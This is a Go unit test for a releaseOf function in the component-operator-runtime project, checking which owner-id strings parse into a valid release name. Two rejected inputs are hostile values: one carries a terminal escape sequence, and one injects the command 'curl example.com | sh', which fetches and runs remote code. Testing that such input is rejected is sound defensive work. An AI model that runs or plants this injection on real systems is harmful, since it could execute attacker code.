// SPDX-FileCopyrightText: The component-operator-runtime authors
// SPDX-License-Identifier: Apache-2.0

package releases

import "testing"

func TestReleaseOf(t *testing.T) {
	t.Parallel()
	for id, want := range map[string]string{
		"clm.cs.sap.com/team-a/web":                        "team-a/web",
		"clm.cs.sap.com/team-a/web.v2":                     "team-a/web.v2",
		"another.operator/team-a/web":                      "",
		"clm.cs.sap.com/web":                               "",
		"clm.cs.sap.com/team-a/web/x":                      "",
		"clm.cs.sap.com/team-a/":                           "",
		"clm.cs.sap.com//web":                              "",
		"clm.cs.sap.com/team-a/x\x1b[2J":                   "",
		"clm.cs.sap.com/team-a/x; curl example.com | sh #": "",
		"clm.cs.sap.com/team.a/web":                        "",
	} {
		if got := releaseOf(id); got != want {
			t.Errorf("%q: got %q, want %q", id, got, want)
		}
	}
}
